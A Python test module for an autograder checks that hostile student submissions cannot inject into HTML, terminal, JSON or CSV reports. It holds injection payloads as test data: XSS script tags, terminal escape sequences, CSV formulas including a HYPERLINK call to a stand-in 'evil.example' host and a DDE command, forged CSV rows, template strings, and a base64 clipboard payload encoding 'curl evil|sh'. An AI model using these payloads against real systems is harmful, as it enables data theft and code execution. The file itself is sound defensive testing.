"""Family I: injecting into reports."""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Callable, Iterable
from dataclasses import replace
from pathlib import Path

from autograder.course import load_course
from autograder.grading.submission import find, read
from autograder.model import ClassResults
from autograder.reports import write
from tests.hostile import sinks
from tests.hostile.controls import in_process
from tests.hostile.entry import SUBMISSIONS, Entry
from tests.hostile.graded import COURSE, Graded
from tests.reports.corpus import acting
from tests.reports.pages import Page

_TAGS = """
    html head meta title style body header main footer section article h1 h2 h3 p span strong bdi a div ul li dl dt
    dd pre code details summary table caption thead tbody tfoot tr th td svg desc rect line text
"""
_ATTRIBUTES = """
    lang charset http-equiv content name class id href style width height x y rx x1 x2 y1 y2 viewbox role scope
    tabindex aria-hidden aria-labelledby
"""
_HREF = re.compile(r"#function-\d+|[a-z0-9][a-z0-9._-]*\.html")
_COLOURS = re.compile(r"\x1b\[[\d;]*m")


def handed_in(source: str, names: Iterable[str] = ()) -> Callable[[Path], Path]:
    """Writes a folder as a student hands it in: the source as hw.py, and empty files with these names."""

    def written(folder: Path) -> Path:
        (folder / "hw.py").write_bytes((SUBMISSIONS / source).read_bytes())
        for name in names:
            (folder / name).touch()
        return folder

    return written


def inert(graded: Graded) -> None:
    """That no rendering holds anything but text, whatever the student wrote."""
    assert graded.score == 0
    for text in (graded.html, graded.class_html):
        assert not acting(text.replace("\t", ""))
        page = Page(text)
        assert {tag for tag, _attributes in page.tags} <= set(_TAGS.split())
        for _tag, attributes in page.tags:
            assert attributes.keys() <= set(_ATTRIBUTES.split())
            assert _HREF.fullmatch(attributes.get("href") or "#function-1")
            assert re.fullmatch(r"(width: [\d.]+%)?", attributes.get("style") or "")
        assert text.index("default-src 'none'") < text.index("<style>")
    assert not acting(_COLOURS.sub("", graded.terminal))
    assert not acting(graded.results_json)
    assert not acting(graded.marks_csv.replace("\r\n", ""))


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def _no_script(graded: Graded) -> None:
    inert(graded)
    assert "<script>document.title = 'owned'</script>" in Page(graded.html).text
    assert sinks.scripts(graded.html) == sinks.scripts(graded.class_html) == []


def _script_runs(path: Path) -> None:
    said = in_process(path).said
    found = sinks.scripts(sinks.page(said))
    assert {"script", "img onerror", "svg onload", "a href", "iframe"} <= set(found), said


def _no_sequence(graded: Graded) -> None:
    inert(graded)
    assert sinks.terminal(graded.released) == {}
    # Said, and not just dropped: a student who prints colours sees why they are not there.
    assert r"\x1b]0;owned\x07" in Page(graded.html).text


def _terminal_obeys(path: Path) -> None:
    done = sinks.terminal(in_process(path).said)
    assert done["title"] == "owned"
    assert done["clipboard"] == "c;Y3VybCBldmlsfHNo"
    assert "an 100/100" in done["screen"]


def _no_line_of_ours(graded: Graded) -> None:
    inert(graded)
    terminal = _COLOURS.sub("", graded.terminal).splitlines()
    assert not [line for line in terminal if line.startswith("grader")]
    assert len(terminal) < 300, "the score is scrolled away"
    assert len(graded.html) < 200_000
    assert len(graded.released) < 600_000
    assert "[…]" in graded.html


def _line_is_believed(path: Path) -> None:
    said = in_process(path).said
    assert "grader: an 100/100" in sinks.log("an", said)
    assert len(said) > 10_000_000
    assert acting(said[:50_000])


def table_of(graded: Graded, ids: Iterable[str]) -> tuple[str, list[str]]:
    """The marks of students with these ids, whose folders lie on disk and are found there; the ids in their order."""
    assignment = load_course(COURSE).assignment("hw")
    with tempfile.TemporaryDirectory(prefix="autograde-hostile-") as folder:
        for id in ids:
            (Path(folder) / "in" / id).mkdir(parents=True)
            (Path(folder) / "in" / id / "hw.py").write_text("")
        found = find(Path(folder) / "in").students
        handed = [read(student, path, assignment).student for student, path in found.items()]
        about = ClassResults("hw", "", "", "", {}, tuple(replace(graded.report, student=id) for id in handed))
        out = Path(folder) / "out"
        pages = write.write_all(about, out, "en")
        # However they are called, their pages lie in this one folder.
        assert all(page.parent == out and page.is_file() for page in pages.values())
        assert len(list(out.iterdir())) == len(handed) + 3
        return (out / write.MARKS).read_bytes().decode("utf-8"), handed


FORMULAS = (
    '=HYPERLINK("evil?"&A1)',
    "+cmd|' '!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1",
    " =1",
    "＝1+1",
    "'=1+1",
)
ROWS = (
    'an","graded",100,100\r\n"binh',
    "chi,graded,100,100",
    "dung\nem,graded,100,100",
    '"',
    "a;b",
    "\u2028x,1",
)


def _no_formula(graded: Graded) -> None:
    inert(graded)
    table, ids = table_of(graded, FORMULAS)
    header, *rows = rows_of(table)
    assert len(ids) == len(rows) == len(FORMULAS)
    for row in (header, *rows):
        assert not [cell for cell in row if re.match(r"\s*[=+\-@\t\r＝＋－＠]", cell)]


def _formula_is_computed(path: Path) -> None:
    said = in_process(path).said
    assert '=HYPERLINK("https://evil.example/?"&A1,"click")' in said
    rows = sinks.table(
        [("an", 0, f'"{line}"'.replace('""', '"')) for line in said.splitlines() if line[:1] in "=+@-"]
    )
    assert [row for row in rows if row[2].startswith(("=", "+", "@"))]
    assert all(
        sinks.table([(id, 0)])[0][0].startswith(("=", "+", "@", "-")) for id in FORMULAS[:4] if "," not in id
    )


def _no_further_row(graded: Graded) -> None:
    inert(graded)
    table, ids = table_of(graded, ROWS)
    _header, *rows = rows_of(table)
    assert len(ids) == len(rows) == len(ROWS)
    assert table.count("\n") == len(ROWS) + 1
    assert [row[1:4] for row in rows] == [["graded", "0", "100"]] * len(ROWS)


def _further_row(path: Path) -> None:
    said = in_process(path).said
    assert ["binh", "graded", "100", "100"] in sinks.table([("an", 0, said)])
    assert ["em", "graded", "100", "100", "0"] in sinks.table([("an", 90), ("dung\nem,graded,100,100", 0)])


def _no_template(graded: Graded) -> None:
    inert(graded)
    for text in (Page(graded.html).text, re.sub(r"\s+", "", _COLOURS.sub("", graded.terminal))):
        assert "{{7*191}}{%" in text
        assert "{0.token}{0.__class__}%(x)s{text}{error}${x}[bold" in text
        assert "1337" not in text
        assert "of the grader" not in text


def _template_is_filled_in(path: Path) -> None:
    said = in_process(path).said
    lines = {name: next(line for line in said.splitlines() if mark in line) for name, mark in (
        ("jinja", "{{7*191}}"), ("format", "{0.token}"), ("percent", "%(x)s"))}  # fmt: skip
    assert "1337jinja" in sinks.templates(lines["jinja"])["jinja"]
    assert sinks.templates("{0.token}")["format"] == "of the grader"
    assert sinks.templates("%(x)s")["percent"] == "filled in"
    assert {"{0.token}", "%(x)s"} <= set(said.splitlines())


ENTRIES = [
    Entry(
        "I01",
        "puts scripts, handlers and javascript: addresses into output, exceptions, answers and names",
        "escaped text; a policy forbids scripts",
        handed_in("I01_scripts.py", ["<script>document.title='owned'<script>.txt", "\"onload='x'.py"]),
        _no_script,
        _script_runs,
    ),
    Entry(
        "I02",
        "sends a terminal sequences for its title, clipboard, cursor and links",
        "shown as \\x1b…; no control character is left",
        handed_in("I02_terminal.py", ["\x1b]0;owned\x07.txt", "\x9b2J.py"]),
        _no_sequence,
        _terminal_obeys,
    ),
    Entry(
        "I03",
        "prints a million lines that look like the grader's, with bidi, zero-width and NUL characters",
        "escaped, indented, cut",
        handed_in("I03_false_lines.py", ["a\ngrader: an 100\u2044100.txt", "\u202eyp.wh.py", "\u200bhw.py"]),
        _no_line_of_ours,
        _line_is_believed,
    ),
    Entry(
        "I04",
        "puts formulas into output, answers, ids and names",
        "a text in quotation marks in every table",
        handed_in("I04_formulas.py", ["=HYPERLINK(1).txt", "@SUM(1).py"]),
        _no_formula,
        _formula_is_computed,
    ),
    Entry(
        "I05",
        "puts quotation marks, commas and line ends into ids and output, to add a row to the marks",
        "one row for each student",
        handed_in("I05_rows.py", ['","graded",100,100\nbinh,graded,100,100.txt']),
        _no_further_row,
        _further_row,
    ),
    Entry(
        "I06",
        "writes templates of Jinja, str.format, % and rich",
        "never taken for a template",
        handed_in("I06_templates.py", ["{{7*191}}{0.token}.txt"]),
        _no_template,
        _template_is_filled_in,
    ),
]
